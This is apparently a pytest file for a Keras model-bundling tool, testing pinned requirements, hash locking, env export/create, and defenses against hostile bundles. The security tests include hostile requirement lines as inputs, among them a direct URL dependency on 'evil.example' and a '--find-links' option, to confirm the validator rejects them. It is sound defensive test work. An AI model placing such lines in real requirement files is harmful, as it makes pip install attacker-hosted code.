"""Pinned requirements, the hash lock when the index is unreachable, env export, env create errors.

Building real environments from a bundle (and the hash lock against the reachable index) is
in test_env_venv.py.
"""

from __future__ import annotations

import importlib.metadata as metadata
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import assert_clean_failure, env_with_unreachable_index, run_cli

import kbundle
from kbundle.container.manifest import Requirements
from kbundle.env.distributions import versions
from kbundle.env.requirement_lines import parse_pins
from kbundle.env.requirements import closure
from kbundle.pipelines.pack import Extras

pytestmark = pytest.mark.keras

TENSORFLOW = "tensorflow-cpu"


@pytest.fixture
def bundle(tmp_path: Path, sequential_model: Any) -> Path:
    return kbundle.pack(sequential_model, tmp_path / "model.kbundle", probe=False).path


def test_requirements_pin_the_installed_closure(bundle: Path, tmp_path: Path) -> None:
    manifest = kbundle.inspect(bundle).manifest
    assert manifest.requirements == Requirements(
        requirements="env/requirements.txt", note="not hash-locked: pack with --lock to add hashes"
    )
    text = (kbundle.unpack(bundle, tmp_path / "out").path / "env/requirements.txt").read_text()
    pins = parse_pins(text)
    assert pins[TENSORFLOW] == metadata.version(TENSORFLOW)
    assert (
        "tensorflow" not in pins and "tf-keras" not in pins
    )  # installed, but not what this model uses
    for name in ("keras", "h5py", "numpy", "ml-dtypes", "namex", "optree"):
        assert pins[name] == metadata.version(name)
    assert "pytest" not in pins and "kbundle" not in pins
    assert all(pins[name] == versions()[name] for name in pins)
    assert (
        text.splitlines()[2]
        == "# Install into a fresh environment with: pip install --no-deps -r requirements.txt"
    )
    assert text.splitlines()[3:] == [f"{name}=={version}" for name, version in sorted(pins.items())]


def test_tf_keras_asking_for_tensorflow_keeps_the_installed_tensorflow_cpu() -> None:
    assert any(r.startswith("tensorflow") for r in metadata.requires("tf-keras") or [])
    pins, missing = closure(["tf-keras"])
    assert pins[TENSORFLOW] == metadata.version(TENSORFLOW)
    assert "tensorflow" not in pins
    assert missing == []


def test_two_installed_tensorflows_are_never_both_pinned() -> None:
    """tf-keras asks for plain tensorflow; with it installed beside tensorflow-cpu (as
    keras-hub's tensorflow-text pulls it), the one pinned is the one whose files are imported."""
    version = metadata.version(TENSORFLOW)
    installed = {**versions(), "tensorflow": version}
    for imported in (TENSORFLOW, "tensorflow"):
        pins, _ = closure(["tf-keras"], installed, tensorflow=imported)
        assert [name for name in pins if name.startswith("tensorflow")] == [imported]


def test_local_version_labels_are_kept_and_missing_requirements_named() -> None:
    installed = {**versions(), "keras": "3.15.1+cu121"}
    del installed["namex"]
    pins, missing = closure(["keras"], installed)
    assert pins["keras"] == "3.15.1+cu121"
    assert missing == ["namex (required by keras)"]


def test_a_lock_with_an_unreachable_index_still_packs_and_says_why(
    tmp_path: Path, saved_keras_file: Path
) -> None:
    unreachable = env_with_unreachable_index()
    result = run_cli(
        "pack",
        saved_keras_file,
        "-o",
        tmp_path / "m.kbundle",
        "--lock",
        "--no-probe",
        "-q",
        env=unreachable,
    )
    assert result.returncode == 0, result.stderr
    note = result.stderr.splitlines()[0]
    assert note.startswith(
        "kbundle: note: not hash-locked: pip-compile failed (is the package index reachable?): "
    ), note
    requirements = kbundle.inspect(tmp_path / "m.kbundle").manifest.requirements
    assert requirements is not None
    assert (requirements.lock, requirements.lock_hashed) == (None, False)
    assert requirements.note == note.removeprefix("kbundle: note: ")


def test_env_export_writes_the_pins(bundle: Path, tmp_path: Path) -> None:
    expected = (kbundle.unpack(bundle, tmp_path / "out").path / "env/requirements.txt").read_text()
    shown = run_cli("env", "export", bundle)
    assert (shown.returncode, shown.stdout) == (0, expected), shown.stderr
    target = tmp_path / "requirements.txt"
    written = run_cli("env", "export", bundle, "-o", target)
    assert (written.returncode, written.stderr) == (0, f"wrote {target} (pins without hashes)\n")
    assert target.read_text() == expected
    assert_clean_failure(run_cli("env", "export", bundle, "-o", target), 2)
    quiet = run_cli("env", "export", bundle, "-o", target, "--force", "-q")
    assert (quiet.returncode, quiet.stdout, quiet.stderr) == (0, "", "")
    as_json = run_cli("env", "export", bundle, "--json")
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout) == {
        "bundle": str(bundle),
        "output": None,
        "hashed": False,
        "requirements": expected,
    }
    refused = run_cli("env", "export", bundle, "--hashed")
    assert_clean_failure(refused, 2)
    assert refused.stderr == (
        f"kbundle: error: {bundle} has no hash-locked requirements: not hash-locked: pack with "
        "--lock to add hashes; "
        "export the pins without --hashed, or re-pack with --lock\n"
    )


def test_env_create_needs_the_recorded_python(tmp_path: Path, sequential_model: Any) -> None:
    def old_python(model: Any, scratch: Path, fmt: str) -> Extras:
        environment = kbundle.env.capture.capture_environment()
        return Extras(
            fields={
                "environment": replace(
                    environment, python=replace(environment.python, version="3.4.10")
                )
            }
        )

    bundle = kbundle.pack(
        sequential_model, tmp_path / "old.kbundle", probe=False, extras=old_python
    ).path
    missing = run_cli("env", "create", bundle, tmp_path / "venv")
    assert_clean_failure(missing, 2)
    assert missing.stderr == (
        "kbundle: error: Python 3.4, which the bundle was packed with, is not installed here: no "
        "python3.4 on PATH; "
        "install Python 3.4 (python.org, pyenv, 'uv python install 3.4') or pass --python PATH "
        "(python=PATH)\n"
    )
    assert not (tmp_path / "venv").exists()
    import sys

    wrong = run_cli("env", "create", bundle, tmp_path / "venv", "--python", sys.executable)
    assert_clean_failure(wrong, 2)
    minor = f"{sys.version_info[0]}.{sys.version_info[1]}"
    assert wrong.stderr.startswith(
        f"kbundle: error: python (--python) {sys.executable} is Python {minor}, the bundle was packed with "
        "Python 3.4;"
    )
    occupied = tmp_path / "occupied"
    occupied.mkdir()
    (occupied / "keep.txt").write_text("mine")
    refused = run_cli("env", "create", bundle, occupied)
    assert_clean_failure(refused, 2)
    assert (occupied / "keep.txt").read_text() == "mine"


def test_env_create_leaves_nothing_behind_when_pip_cannot_install(
    bundle: Path, tmp_path: Path
) -> None:
    unreachable = env_with_unreachable_index()
    result = run_cli("env", "create", bundle, tmp_path / "venv", env=unreachable)
    assert_clean_failure(result, 3)
    error = next(line for line in result.stderr.splitlines() if line.startswith("kbundle: error:"))
    assert error.startswith(
        "kbundle: error: pip install of the recorded requirements failed (exit 1): "
    )
    assert error.endswith(
        "; the recorded versions may have no wheel for this platform or Python; "
        "'kbundle check' shows what differs"
    )
    assert not (tmp_path / "venv").exists()


# --------------------------------------------------------------------------------------------
# Reading a bundle's requirements back (THREATS row 20) and running pip-compile (row 22).
# tests/security/test_threats_env.py runs hostile bundles through the CLI.

_HASH = "0123456789abcdef" * 4


def test_row20_check_requirements_reads_lines_as_pip_does() -> None:
    from kbundle.env.requirement_lines import check_requirements

    text = (
        "# -*- coding: utf-8 -*-\r\n"
        "numpy==2.1.3 \\\r\n"
        f"    --hash=sha256:{_HASH} \\\n"
        f"    --hash=sha256:{_HASH.upper()}  # pip cuts a comment after whitespace\n"
        "\n"
        "#   a comment line ending in a backslash joins nothing \\\n"
        f"Keras==3.15.1+cu121 --hash=sha256:{_HASH}\n"
    )
    checked = check_requirements(
        text.encode(), member="env/requirements.lock", hashed=True, trust_code=False
    )
    assert checked.text == text
    assert checked.lines == (
        f"numpy==2.1.3 --hash=sha256:{_HASH} --hash=sha256:{_HASH.upper()}",
        f"Keras==3.15.1+cu121 --hash=sha256:{_HASH}",
    )
    assert checked.for_pip() == "".join(f"{line}\n" for line in checked.lines)
    assert parse_pins(text) == {"numpy": "2.1.3", "keras": "3.15.1+cu121"}


def test_row20_check_requirements_collects_every_bad_line() -> None:
    from kbundle.env.requirement_lines import check_requirements
    from kbundle.errors import BundleFormatError, UntrustedCodeError

    text = b"numpy>=2\nh5py==3.16.0\n--find-links env\nevil @ https://evil.example/e.whl\n"
    with pytest.raises(UntrustedCodeError) as refused:
        check_requirements(text, member="env/requirements.txt", hashed=False)
    assert str(refused.value) == (
        "env/requirements.txt line 3 names a location other than a plain https URL: "
        "'--find-links env' (and 2 more problems); kbundle never lets pip install from the "
        "bundle, a local path, a file: URL or through another pip option, even with "
        "--trust-code; install such a package yourself"
    )
    assert [f.describe() for f in refused.value.findings] == [
        "env/requirements.txt line 3: names a location other than a plain https URL "
        "(found '--find-links env')",
        "env/requirements.txt line 4: chooses where pip downloads packages from "
        "(found 'evil @ https://evil.example/e.whl')",
        "env/requirements.txt line 1: is not a name==version pin (found 'numpy>=2')",
    ]
    with pytest.raises(BundleFormatError) as malformed:
        check_requirements(
            b"numpy>=2\n", member="env/requirements.txt", hashed=False, trust_code=True
        )
    assert not isinstance(malformed.value, UntrustedCodeError)
    trusted = check_requirements(
        b"h5py==3.16.0\nevil @ https://evil.example/e.whl\n",
        member="env/requirements.txt",
        hashed=False,
        trust_code=True,
    )
    assert trusted.lines == ("h5py==3.16.0", "evil @ https://evil.example/e.whl")


def test_row22_pip_compile_runs_isolated_from_its_directory_and_pythonpath(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kbundle.env.lock import hash_lock

    pytest.importorskip("piptools")
    pack_dir = tmp_path / "pack"
    (pack_dir / "env").mkdir(parents=True)
    markers = tmp_path / "markers"
    markers.mkdir()
    touch = "import pathlib; pathlib.Path({!r}).touch()\n"
    shadow = pack_dir / "env" / "piptools"  # pip-compile ran in the requirements' directory
    shadow.mkdir()
    (shadow / "__init__.py").write_text(touch.format(str(markers / "piptools")))
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(touch.format(str(markers / "sitecustomize")))
    for name, value in env_with_unreachable_index().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("PYTHONPATH", str(site))
    requirements = pack_dir / "env" / "requirements.txt"
    requirements.write_text("six==1.17.0\n")

    why_not = hash_lock(requirements, pack_dir / "env" / "requirements.lock", timeout=300)

    assert why_not is not None
    assert why_not.startswith("pip-compile failed (is the package index reachable?): "), why_not
    assert sorted(p.name for p in markers.iterdir()) == []
